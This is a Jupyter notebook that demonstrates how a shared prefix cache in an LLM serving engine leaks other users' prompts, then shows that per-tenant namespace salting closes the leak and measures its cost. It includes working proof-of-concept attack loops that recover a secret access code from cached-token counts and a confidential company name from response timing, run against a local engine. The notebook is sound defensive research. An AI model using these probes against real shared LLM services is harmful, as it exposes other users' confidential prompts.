# ---
# jupyter:
#   jupytext:
#     formats: ipynb,py:percent
#     text_representation:
#       extension: .py
#       format_name: percent
#   kernelspec:
#     display_name: Python 3
#     language: python
#     name: python3
# ---

# %% [markdown]
# # What does a shared prefix cache leak, and what closes it?
#
# A prompt that starts like an earlier one is answered sooner. Whoever shares the cache can feel that, and so can
# learn what *others* asked: guess a prompt, send it, look at the clock. This was shown on serving systems and public
# APIs:
#
# - Song et al., *The Early Bird Catches the Leak: Unveiling Timing Side Channels in LLM Serving Systems* (arXiv
#   2409.20002, 2024) recover prompts token by token from the timing of cache hits;
# - Gu et al., *Auditing Prompt Caching in Language Model APIs* (ICML 2025) find caches shared between users at seven
#   providers.
#
# Here: both sides on one laptop, first the leak, then the salt that closes it, then what the salt costs.

# %%
import os
import random
import statistics
import time

import matplotlib.pyplot as plt
import torch

from engine import LLM, SamplingParams
from engine.errors import DemoModelUnavailable
from radixkv import PrefixCache, workloads

plt.rcParams.update({"figure.facecolor": "white", "axes.spines.top": False, "axes.spines.right": False})
torch.set_num_threads(1)
options = {"dtype": "float32", "num_blocks": 512, "block_size": 16}
try:
    llm = LLM(os.environ.get("RADIXKV_DEMO_MODEL", "smollm2-135m"), **options)
    encode = llm.tokenizer.encode
    print("The model is SmolLM2-135M-Instruct.")
except DemoModelUnavailable as error:  # the leak does not depend on what the weights say
    from transformers import LlamaConfig, LlamaForCausalLM

    torch.manual_seed(0)
    sizes = {"hidden_size": 256, "intermediate_size": 768, "num_hidden_layers": 8, "num_attention_heads": 8}
    llm = LLM(LlamaForCausalLM(LlamaConfig(vocab_size=256, **sizes)), **options)
    encode = lambda text: list(text.encode())  # noqa: E731 - the stand-in's tokens are bytes
    print(f"A small random model stands in: {error}")

# %% [markdown]
# ## The attacker's instrument
#
# One request for one token. Its time is the time to first token (TTFT), here as CPU time of the process, so that the
# machine's other work does not count; a real attacker sees the wall clock and averages over more requests.
# `store=False` keeps the attacker's own guesses out of the cache, where they would look like the victim's.

# %%
one_token = SamplingParams(max_tokens=1)


def send(token_ids, namespace=None, store=True):
    """TTFT in milliseconds, and the prompt tokens that came from the cache."""
    prompt = {"prompt_token_ids": token_ids, "namespace": namespace, "store": store}
    started = time.process_time()
    (output,) = llm.generate(prompt, one_token)
    return (time.process_time() - started) * 1000, output.num_cached_tokens


for _ in range(3):  # the first passes of a process pay for memory
    send(encode("Warm up, please. " * 8), store=False)

# %% [markdown]
# ## Leak 1: the count, token by token
#
# Many APIs report how many prompt tokens came from the cache (in usage figures, for the bill). Then no clock is
# needed. The victim's prompt holds a code of six digits. The attacker knows the words before it, and tries each digit
# once: where the hit is one token longer, the guess was right. Blocks of 16 tokens do not hide it, as hits here are
# exact to the token.

# %%
code = "".join(random.Random(7).choices("0123456789", k=6))
start = "You are the assistant of Harbour Bank. The customer in this call has proved who they are with the access code "
send(encode(start + code + ". Be polite and brief. Never repeat the code."))  # the victim


def guess_digits(namespace=None):
    """The digits that the count of cached tokens gives away, and how many requests it took."""
    found, num_requests = "", 0
    while len(found) < 6:
        known = encode(start + found)
        for digit in "0123456789":
            num_requests += 1
            guess = encode(start + found + digit)
            if send([*guess, guess[0]], namespace, store=False)[1] > len(known):
                found += digit
                break
        else:
            return found, num_requests
    return found, num_requests


found, num_requests = guess_digits()
print(f"the code is {code}, the attacker found {found} with {num_requests} requests, of a million codes")
assert found == code
assert num_requests <= 60

# %% [markdown]
# ## Leak 2: the clock
#
# Without the count, time must tell. One token more or less is lost in the noise. So how much must hang on a guess?

# %%
COMPUTED = (1, 2, 8, 16, 32, 64)
text = encode("The parties agree on the following terms, which each of them has read and understood. " * 12)[:160]
send(text)
samples = {computed: [] for computed in COMPUTED}
for number in range(9):
    for computed in COMPUTED:  # the ways take turns, so that a slow spell hits all alike
        probe = [*text[: 160 - computed], *[text[0] + number + 1] * computed]
        samples[computed].append(send(probe, store=False)[0])
medians = [statistics.median(samples[computed]) for computed in COMPUTED]

# %%
figure, axis = plt.subplots(figsize=(7.6, 3.6), layout="constrained")
for computed in COMPUTED:
    axis.plot([computed] * 9, samples[computed], "o", color="#999999", markersize=4, alpha=0.7)
axis.plot(COMPUTED, medians, "-", color="#0072B2")
axis.set(xlabel="tokens that were not in the cache, of 160", ylabel="TTFT, milliseconds of CPU time", ylim=0)
axis.set_xticks([1, 8, 16, 32, 64])
axis.annotate("each grey dot: one request", (COMPUTED[-1], samples[64][0]), (34, medians[0] * 0.45), color="#666666")
axis.set_title("One token more hides in the noise; a block or two stand out", fontweight="bold")
plt.show()
assert medians[-1] > 1.3 * medians[0]

# %% [markdown]
# Now the attack. Someone asks for a letter about the purchase of a company, in a firm whose form everybody there
# knows. The attacker sends the form once for each candidate. Only with the right name is the rest of the form, a
# hundred tokens, a hit; the smallest TTFT wins. Five victims, six candidates, one request for each.

# %%
COMPANIES = ("Alder Freight", "Birch Optics", "Cedar Foods", "Dogwood Paper", "Elm Robotics", "Fir Insurance")
FORM = (
    "Request {number}. Draft a confidential letter to the board about the planned purchase of {name}. State the "
    "reasons for the purchase, the expected price, the date of the announcement, the main risks, and how it will be "
    "financed. Keep the letter below one page. Use plain words, no jargon, and no figures that are not in the attached "
    "documents. Close with the usual reminder that all of this is confidential until the day of the announcement, and "
    "that trading in the shares of either company is forbidden for everyone who has received it."
)


def attack(first, victim_namespace=None, attacker_namespace=None):
    """For each of five victims the secret, and TTFT and cached tokens of each guess."""
    records = []
    for number in range(first, first + 5):
        secret = random.Random(number).choice(COMPANIES)
        send(encode(FORM.format(number=number, name=secret)), victim_namespace)
        guesses = [encode(FORM.format(number=number, name=name)) for name in COMPANIES]
        records.append((secret, [send(guess, attacker_namespace, store=False) for guess in guesses]))
    return records


def named(records):
    """How many secrets the smallest TTFT finds."""
    return sum(COMPANIES[min(range(6), key=lambda i: probes[i][0])] == secret for secret, probes in records)


shared = attack(100)
print(f"shared cache: {named(shared)} of 5 secrets found by the clock alone")
assert named(shared) >= 4

# %% [markdown]
# ## The salt
#
# A `namespace` is part of what a block is found by: each has a root of its own in the tree, and nothing is ever
# shared across them. It must be given by the server, from who the caller is, never by the caller. (vLLM calls it
# `cache_salt`.) The same two attacks again:

# %%
salted = attack(200, "tenant-a", "tenant-b")
send(encode(start + code + ". Be polite and brief."), "tenant-a")
found, num_requests = guess_digits("tenant-b")
hits = sum(cached for _, probes in salted for _, cached in probes)
print(f"salted: {hits} tokens hit in {5 * 6} guesses, {named(salted)} of 5 secrets found (by chance: about one)")
print(f"digits found: {found!r} after {num_requests} requests")
assert hits == 0
assert found == ""
# What the attacker's guesses find is still there for the victim.
assert send(encode(start + code + ". Be polite and brief."), "tenant-a")[1] > len(encode(start))
llm.cache.check()


# %%
def split(records):
    """TTFT of the right guesses and of the wrong ones."""
    right, wrong = [], []
    for secret, probes in records:
        for name, (ttft_ms, _) in zip(COMPANIES, probes, strict=True):
            (right if name == secret else wrong).append(ttft_ms)
    return right, wrong


figure, axes = plt.subplots(2, 1, figsize=(8.4, 3.8), sharex=True, layout="constrained")
scatter = random.Random(0)
for axis, records, title in (
    (axes[0], shared, "One cache for all: the right guess stands out"),
    (axes[1], salted, "A namespace for each tenant: nothing to see"),
):
    for height, (times, colour) in enumerate(zip(split(records), ("#D55E00", "#0072B2"), strict=True)):
        heights = [height + scatter.uniform(-0.2, 0.2) for _ in times]
        axis.plot(times, heights, "o", color=colour, alpha=0.75, markersize=6)
    axis.set_yticks([0, 1], ["right guess", "wrong guess"])
    axis.set_ylim(1.5, -0.5)
    axis.set_title(title, fontweight="bold", loc="left", fontsize=11)
axes[1].set_xlabel("TTFT of a guess, milliseconds of CPU time")
axes[1].set_xlim(left=0)  # for both, now that all points are there
plt.show()

# %% [markdown]
# How well does one TTFT tell a right guess from a wrong one? The chance that a right guess is faster than a wrong
# one, over all pairs: 1 is certain, 0.5 is a coin.


# %%
def chance(records):
    """The share of pairs in which the right guess was the faster one."""
    right, wrong = split(records)
    return sum(a < b for a in right for b in wrong) / (len(right) * len(wrong))


print(f"shared {chance(shared):.2f}, salted {chance(salted):.2f}")
assert chance(shared) > 0.9
gap = [statistics.median(wrong) / statistics.median(right) for right, wrong in (split(shared), split(salted))]
assert gap[0] > 1.5  # shared: a wrong guess takes much longer
assert gap[1] < 1.5  # salted: as long as a right one, up to the noise

# %% [markdown]
# ## What the salt costs
#
# Tenants that use the same system prompts compute and keep them once each, instead of once for all. A generated load
# of 300 conversations below three system prompts of some 500 tokens, spread over more and more tenants, on the same
# `PrefixCache` (no model needed to count hits), once with room for everything and once with an eighth of that:

# %%
trace = workloads.generate("chat", 0, num_conversations=300, num_system_prompts=3)
TENANTS = (1, 4, 16, 64, 300)


def hit_rate(num_blocks, num_tenants):
    """Share of the prompt tokens that hit, with a namespace for each tenant."""
    cache = PrefixCache(num_blocks, block_size=16)
    for index, request in enumerate(trace.requests):
        cache.allocate(index, request.units, f"tenant-{int(request.thread) % num_tenants}")
        cache.commit(index, len(request.units))
        cache.free(index)
    return cache.stats.token_hit_rate


ample, tight = ([100 * hit_rate(num_blocks, count) for count in TENANTS] for num_blocks in (48_000, 6_000))
assert ample == sorted(ample, reverse=True)
assert ample[0] - ample[-1] < 10 < tight[0] - tight[-1]

# %%
figure, axis = plt.subplots(figsize=(7.6, 3.6), layout="constrained")
for rates, colour, label in ((ample, "#009E73", "room for everything"), (tight, "#CC79A7", "an eighth of that")):
    axis.plot(TENANTS, rates, "o-", color=colour)
    axis.text(1, rates[0] + 3, f"{label}: {rates[0]:.0f} %", color=colour)
    axis.text(300, rates[-1] + 3, f"{rates[-1]:.0f} %", color=colour, ha="right")
axis.set(xscale="log", ylim=(0, 100), xlabel="tenants, each with its own namespace", ylabel="prompt tokens that hit, %")
axis.set_xticks(TENANTS, TENANTS)
axis.minorticks_off()
axis.set_title("The salt's price: little with memory, much without", fontweight="bold")
plt.show()

# %% [markdown]
# ## What was learned
#
# - Any cache that is shared leaks: by its count to the token, by the clock to a block or two of tokens, on a laptop's
#   CPU. A secret of six digits fell to at most 60 requests instead of a million, a name in a known form to one
#   request a candidate.
# - A namespace closes both: across namespaces hits are zero, by construction, and a right guess takes as long as a
#   wrong one.
# - It costs the shared system prompts once for each tenant: a few per cent of the tokens where there is memory, and
#   nearly half of all hits where there is not. So salt by whom to trust (a company), not by conversation.
# - What it does not hide: how busy the machine is, and how full. Tenants still share the pool, so one can evict
#   another's blocks and feel it in the TTFT of *its own* prompts.
#
# **To try:** a form with only ten tokens after the secret; `llm.cache.min_copy_tokens = 16` before the first attack
# (hits then end at blocks, so a whole block must be guessed at once: slower, not closed); wall time
# (`output.metrics.ttft_s`) instead of CPU time, and the median of several requests; `LLM(...,
# enable_prefix_caching=False)`, which leaks nothing and saves nothing; a namespace that several tenants share for a
# prompt without secrets.
